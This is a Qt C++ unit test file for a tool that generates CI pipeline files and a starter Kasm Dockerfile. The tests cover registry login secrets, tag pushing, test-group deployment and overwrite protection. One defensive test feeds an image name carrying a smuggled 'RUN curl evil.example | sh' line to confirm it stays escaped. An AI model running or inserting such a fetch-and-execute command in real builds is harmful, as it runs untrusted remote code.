// Generated CI pipelines: per engine and strategy, the right file, the repository and tag convention passed to
// stewardctl push-tags, the moving tag left alone under the move strategy (moving it is the deploy), and the login
// taken from the engine's secret variables by name. The starter Dockerfile in Kasm's layout, and an existing one kept.
// The engines' own tools check these files in tst_pipelinetools.
#include "workflow/Pipeline.h"
#include "workflow/RepositoryFiles.h"
#include "workflow/StarterDockerfile.h"

#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

using namespace steward;
using namespace steward::workflow;

Q_DECLARE_METATYPE(steward::workflow::PipelineEngine)

namespace {

store::ManagedImage chrome(store::DeployStrategy strategy, bool login)
{
    store::ManagedImage image;
    image.imageId = QStringLiteral("img-1");
    image.friendlyName = QStringLiteral("Chrome (custom)");
    image.repository = QStringLiteral("registry.example:5000/team/chrome");
    image.loginRegistry = login ? QStringLiteral("registry.example:5000") : QString();
    image.uniquePattern = QStringLiteral("{version}-%Y%m%d-%H%M");
    image.movingTag = QStringLiteral("stable");
    image.strategy = strategy;
    return image;
}

} // namespace

class TestPipeline final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void writesTheEnginesFile_data()
    {
        QTest::addColumn<PipelineEngine>("engine");
        QTest::addColumn<QString>("path");
        QTest::addColumn<QString>("secretReference"); // how the file names the password variable
        QTest::addColumn<QString>("candidateDefinition");
        QTest::addColumn<QString>("candidate"); // how the push and push-tags lines name it
        const QString repo = QStringLiteral("registry.example:5000/team/chrome:ci-");
        QTest::newRow("gitlab reads CI/CD variables")
            << PipelineEngine::GitLab << QStringLiteral(".gitlab-ci.yml")
            << QStringLiteral("$STEWARD_REGISTRY_PASSWORD") << repo + QStringLiteral("$CI_PIPELINE_ID")
            << repo + QStringLiteral("$CI_PIPELINE_ID");
        QTest::newRow("github reads repository secrets")
            << PipelineEngine::GitHub << QStringLiteral(".github/workflows/imagesteward-chrome.yml")
            << QStringLiteral("${{ secrets.STEWARD_REGISTRY_PASSWORD }}")
            << repo + QStringLiteral("${{ github.run_id }}") << repo + QStringLiteral("${{ github.run_id }}");
        QTest::newRow("jenkins binds a credential")
            << PipelineEngine::Jenkins << QStringLiteral("Jenkinsfile")
            << QStringLiteral("credentialsId: 'imagesteward-registry'")
            << QStringLiteral("CANDIDATE = \"") + repo + QStringLiteral("${env.BUILD_NUMBER}\"")
            << QStringLiteral("$CANDIDATE");
        QTest::newRow("bitbucket reads repository variables")
            << PipelineEngine::Bitbucket << QStringLiteral("bitbucket-pipelines.yml")
            << QStringLiteral("$STEWARD_REGISTRY_PASSWORD") << repo + QStringLiteral("$BITBUCKET_BUILD_NUMBER")
            << repo + QStringLiteral("$BITBUCKET_BUILD_NUMBER");
    }

    void writesTheEnginesFile()
    {
        QFETCH(PipelineEngine, engine);
        QFETCH(QString, path);
        QFETCH(QString, secretReference);
        QFETCH(QString, candidateDefinition);
        QFETCH(QString, candidate);
        const Result<QList<PipelineFile>> pin = generatePipeline(chrome(store::DeployStrategy::Pin, true), engine);
        QVERIFY(pin);
        QCOMPARE(pin->size(), 1);
        QCOMPARE(pin->first().path, path);
        QVERIFY(!pin->first().adminOwned);
        const QString text = QString::fromUtf8(pin->first().content);
        QVERIFY2(text.contains(secretReference), qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("docker login registry.example:5000")), qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("--password-stdin")), qPrintable(text));
        QVERIFY2(text.contains(candidateDefinition), qPrintable(text));
        QVERIFY2(text.contains(QStringLiteral("docker push \"%1\"").arg(candidate)), qPrintable(text));
        // YAML files double the shell's single quotes; the pattern and the moving tag are there either way.
        QVERIFY2(text.contains(QStringLiteral("stewardctl push-tags \"%1\" --unique ").arg(candidate)),
                 qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("{version}-%Y%m%d-%H%M")), qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("--moving ")) && text.contains(QLatin1String("stable")), qPrintable(text));

        const Result<QList<PipelineFile>> move = generatePipeline(chrome(store::DeployStrategy::Move, true), engine);
        const QString moving = QString::fromUtf8(move->first().content);
        QVERIFY2(moving.contains(QLatin1String("--no-moving")), qPrintable(moving));
        QVERIFY2(!moving.contains(QLatin1String("--moving")), qPrintable(moving));

        const Result<QList<PipelineFile>> anonymous =
            generatePipeline(chrome(store::DeployStrategy::Pin, false), engine);
        const QString open = QString::fromUtf8(anonymous->first().content);
        QVERIFY2(!open.contains(QLatin1String("docker login")), qPrintable(open));
        QVERIFY2(!open.contains(QLatin1String("STEWARD_REGISTRY_PASSWORD")), qPrintable(open));
        QVERIFY2(!open.contains(QLatin1String("DOCKER_AUTH_CONFIG")), qPrintable(open));
    }

    void sendToTestNamesTheKasmSecretsTheEngineHolds_data()
    {
        QTest::addColumn<PipelineEngine>("engine");
        QTest::addColumn<QStringList>("secretReferences"); // how the file names the Kasm connection
        QTest::newRow("gitlab names its CI/CD variables")
            << PipelineEngine::GitLab
            << QStringList{QStringLiteral("STEWARD_KASM_URL, STEWARD_KASM_API_KEY, STEWARD_KASM_API_SECRET as masked")};
        QTest::newRow("github passes repository secrets into the job's environment")
            << PipelineEngine::GitHub
            << QStringList{QStringLiteral("STEWARD_KASM_URL: ${{ secrets.STEWARD_KASM_URL }}"),
                           QStringLiteral("STEWARD_KASM_API_KEY: ${{ secrets.STEWARD_KASM_API_KEY }}"),
                           QStringLiteral("STEWARD_KASM_API_SECRET: ${{ secrets.STEWARD_KASM_API_SECRET }}")};
        QTest::newRow("jenkins binds two credentials")
            << PipelineEngine::Jenkins
            << QStringList{QStringLiteral("usernamePassword(credentialsId: 'imagesteward-kasm',"),
                           QStringLiteral("usernameVariable: 'STEWARD_KASM_API_KEY', passwordVariable: "
                                          "'STEWARD_KASM_API_SECRET'"),
                           QStringLiteral("string(credentialsId: 'imagesteward-kasm-url', variable: "
                                          "'STEWARD_KASM_URL')")};
        QTest::newRow("bitbucket names its repository variables")
            << PipelineEngine::Bitbucket
            << QStringList{
                   QStringLiteral("STEWARD_KASM_URL, STEWARD_KASM_API_KEY, STEWARD_KASM_API_SECRET as secured")};
    }

    void sendToTestNamesTheKasmSecretsTheEngineHolds()
    {
        QFETCH(PipelineEngine, engine);
        QFETCH(QStringList, secretReferences);
        store::ManagedImage image = chrome(store::DeployStrategy::Pin, false);
        image.testGroups = {{QStringLiteral("g-9"), QStringLiteral("Image Testers")}};
        const Result<QList<PipelineFile>> files = generatePipeline(image, engine, PipelineOptions{.sendToTest = true});
        QVERIFY2(files, qPrintable(files ? QString() : files.error().toString()));
        const QString text = QString::fromUtf8(files->first().content);
        for (const QString &reference : secretReferences)
            QVERIFY2(text.contains(reference), qPrintable(reference + QLatin1Char('\n') + text));
        // The unique tag push-tags made is what goes to test, through the connection from the environment, in a
        // profile of the job's own that manages the image by ids.
        QVERIFY2(text.contains(QLatin1String("UNIQUE=\"$(stewardctl --profile \"$STEWARD_CI_PROFILE\" push-tags")),
                 qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("--quiet)\"")), qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("stewardctl --kasm-env --profile \"$STEWARD_CI_PROFILE\" send-to-test "
                                             "\"$UNIQUE\"")) &&
                     text.contains(QLatin1String("--image ")),
                 qPrintable(text));
        QVERIFY2(text.contains(QLatin1String("img-1")) && text.contains(QLatin1String("--test-group ")) &&
                     text.contains(QLatin1String("g-9")),
                 qPrintable(text));
        QVERIFY2(text.indexOf(QLatin1String(" manage")) < text.indexOf(QLatin1String(" send-to-test ")),
                 qPrintable(text));
        QCOMPARE(pipelineSecretVariables(image, PipelineOptions{.sendToTest = true}),
                 (QStringList{QStringLiteral("STEWARD_KASM_URL"), QStringLiteral("STEWARD_KASM_API_KEY"),
                              QStringLiteral("STEWARD_KASM_API_SECRET")}));

        // Without the option nothing reaches for Kasm.
        const QString plain = QString::fromUtf8(generatePipeline(image, engine)->first().content);
        QVERIFY2(!plain.contains(QLatin1String("STEWARD_KASM")), qPrintable(plain));
        QVERIFY2(!plain.contains(QLatin1String("send-to-test")), qPrintable(plain));
        QVERIFY2(!plain.contains(QLatin1String("imagesteward-kasm")), qPrintable(plain));
    }

    void sendToTestNeedsATestGroup()
    {
        const Result<QList<PipelineFile>> files = generatePipeline(
            chrome(store::DeployStrategy::Pin, false), PipelineEngine::GitLab, PipelineOptions{.sendToTest = true});
        QVERIFY(!files);
        QVERIFY2(files.error().message.contains(QLatin1String("test group")), qPrintable(files.error().message));
    }

    void gitlabTagsInAJobWithoutDocker()
    {
        // docker:24 has no stewardctl and a stewardctl runner need not have docker: two jobs of one pipeline, the
        // candidate named by the pipeline id both share, the login handed to stewardctl without docker.
        const Result<QList<PipelineFile>> files =
            generatePipeline(chrome(store::DeployStrategy::Pin, true), PipelineEngine::GitLab);
        QVERIFY(files);
        const QString text = QString::fromUtf8(files->first().content);
        const qsizetype tagJob = text.indexOf(QLatin1String("\nimagesteward-tag:\n"));
        QVERIFY2(tagJob > text.indexOf(QLatin1String("\nimagesteward-build:\n")), qPrintable(text));
        const qsizetype buildJob = text.indexOf(QLatin1String("\nimagesteward-build:\n"));
        const QString build = text.mid(buildJob, tagJob - buildJob);
        const QString tag = text.mid(tagJob);
        QVERIFY2(build.contains(QLatin1String("stage: build")) && build.contains(QLatin1String("docker push")),
                 qPrintable(text));
        QVERIFY2(!build.contains(QLatin1String("stewardctl")), qPrintable(text));
        QVERIFY2(tag.contains(QLatin1String("stage: tag")) && tag.contains(QLatin1String("- imagesteward-build")),
                 qPrintable(text));
        QVERIFY2(!tag.contains(QLatin1String("docker ")), qPrintable(text));
        QVERIFY2(tag.contains(QLatin1String("export DOCKER_AUTH_CONFIG=")), qPrintable(text));
        QVERIFY2(tag.contains(QLatin1String("\\\"registry.example:5000\\\"")), qPrintable(text));
        QVERIFY2(tag.contains(QLatin1String("\"$STEWARD_REGISTRY_USER\" \"$STEWARD_REGISTRY_PASSWORD\" | base64")),
                 qPrintable(text));
    }

    void starterDockerfileFollowsKasmsLayout()
    {
        const Result<PipelineFile> file =
            starterDockerfile(chrome(store::DeployStrategy::Pin, false), defaultKasmBase());
        QVERIFY2(file, qPrintable(file ? QString() : file.error().toString()));
        QCOMPARE(file->path, QStringLiteral("Dockerfile"));
        QVERIFY(file->adminOwned);
        // The instructions alone, in order: what a Kasm session needs around the admin's install section.
        QStringList instructions;
        for (const QByteArray &line : file->content.split('\n')) {
            if (!line.isEmpty() && !line.startsWith('#'))
                instructions << QString::fromUtf8(line);
        }
        QCOMPARE(
            instructions,
            (QStringList{QStringLiteral("FROM kasmweb/core-ubuntu-jammy:1.16.0"), QStringLiteral("USER root"),
                         QStringLiteral("LABEL org.opencontainers.image.version=\"0.1.0\""),
                         QStringLiteral("ENV HOME /home/kasm-default-profile"),
                         QStringLiteral("ENV STARTUPDIR /dockerstartup"),
                         QStringLiteral("ENV INST_SCRIPTS $STARTUPDIR/install"), QStringLiteral("WORKDIR $HOME"),
                         QStringLiteral("RUN chown 1000:0 $HOME"),
                         QStringLiteral("RUN $STARTUPDIR/set_user_permission.sh $HOME"),
                         QStringLiteral("ENV HOME /home/kasm-user"), QStringLiteral("WORKDIR $HOME"),
                         QStringLiteral("RUN mkdir -p $HOME && chown -R 1000:0 $HOME"), QStringLiteral("USER 1000")}));
        QVERIFY(file->content.contains("######### Customize Container Here ###########\n# RUN apt-get"));

        // Without {version} in the tag convention there is no label to keep up to date.
        store::ManagedImage dated = chrome(store::DeployStrategy::Pin, false);
        dated.uniquePattern = QStringLiteral("%Y%m%d-%H%M");
        const Result<PipelineFile> plain = starterDockerfile(dated, QStringLiteral("registry.example:5000/base@sha256:"
                                                                                   "0123456789abcdef0123456789abcdef"
                                                                                   "0123456789abcdef0123456789abcdef"));
        QVERIFY(plain);
        QVERIFY(!plain->content.contains("LABEL"));
        QVERIFY(plain->content.contains("\nFROM registry.example:5000/base@sha256:0123"));
    }

    void aNameFromKasmStaysInsideTheComment()
    {
        store::ManagedImage image = chrome(store::DeployStrategy::Pin, false);
        image.friendlyName = QStringLiteral("Chrome\nRUN curl evil.example | sh\r\n");
        QList<PipelineFile> files;
        for (PipelineEngine engine :
             {PipelineEngine::GitLab, PipelineEngine::GitHub, PipelineEngine::Jenkins, PipelineEngine::Bitbucket})
            files << generatePipeline(image, engine)->first();
        files << *starterDockerfile(image, defaultKasmBase());
        for (const PipelineFile &file : files) {
            QVERIFY2(!file.content.contains("\nRUN curl"), file.content.constData());
            QVERIFY2(!file.content.contains('\r'), file.content.constData());
            QVERIFY2(file.content.contains("Chrome\\nRUN curl evil.example | sh\\r\\n"), file.content.constData());
        }
    }

    void starterDockerfileRefusesAnUnpinnedOrMalformedBase_data()
    {
        QTest::addColumn<QString>("base");
        QTest::addColumn<QString>("mentions");
        QTest::newRow("no tag: every build could start elsewhere")
            << QStringLiteral("kasmweb/core-ubuntu-jammy") << QStringLiteral("with a tag or digest");
        QTest::newRow("a registry port is not a tag")
            << QStringLiteral("registry.example:5000/kasm/core") << QStringLiteral("with a tag or digest");
        QTest::newRow("upper case is no reference")
            << QStringLiteral("Kasmweb/Core:1.16.0") << QStringLiteral("not an image reference");
    }

    void starterDockerfileRefusesAnUnpinnedOrMalformedBase()
    {
        QFETCH(QString, base);
        QFETCH(QString, mentions);
        const Result<PipelineFile> file = starterDockerfile(chrome(store::DeployStrategy::Pin, false), base);
        QVERIFY(!file);
        QCOMPARE(file.error().code, ErrorCode::InvalidInput);
        QVERIFY2(file.error().message.contains(mentions), qPrintable(file.error().message));
    }

    void anExistingDockerfileIsKeptAndNothingIsWritten()
    {
        QTemporaryDir root;
        const PipelineFile pipeline{QStringLiteral(".gitlab-ci.yml"), "new pipeline\n"};
        PipelineFile dockerfile{QStringLiteral("Dockerfile"), "FROM starter\n", true};
        QFile mine(root.filePath(QStringLiteral("Dockerfile")));
        QVERIFY(mine.open(QIODevice::WriteOnly));
        mine.write("FROM my-edited-image\n");
        mine.close();

        const Result<QStringList> refused = writeRepositoryFiles(root.path(), {pipeline, dockerfile}, false);
        QVERIFY(!refused);
        QCOMPARE(refused.error().code, ErrorCode::Conflict);
        QVERIFY2(refused.error().message.contains(root.filePath(QStringLiteral("Dockerfile"))),
                 qPrintable(refused.error().message));
        QVERIFY(!QFileInfo::exists(root.filePath(QStringLiteral(".gitlab-ci.yml"))));
        QVERIFY(mine.open(QIODevice::ReadOnly));
        QCOMPARE(mine.readAll(), QByteArray("FROM my-edited-image\n"));
        mine.close();

        // A pipeline file is the catalog's: it is rewritten. The Dockerfile only when asked.
        const Result<QStringList> written = writeRepositoryFiles(root.path(), {pipeline, dockerfile}, true);
        QVERIFY(written);
        QCOMPARE(written->size(), 2);
        QVERIFY(mine.open(QIODevice::ReadOnly));
        QCOMPARE(mine.readAll(), QByteArray("FROM starter\n"));
    }

    void engineNames()
    {
        QCOMPARE(pipelineEngineFromName(QStringLiteral("github")), PipelineEngine::GitHub);
        QVERIFY(!pipelineEngineFromName(QStringLiteral("travis")));
    }
};

QTEST_APPLESS_MAIN(TestPipeline)
#include "tst_pipeline.moc"
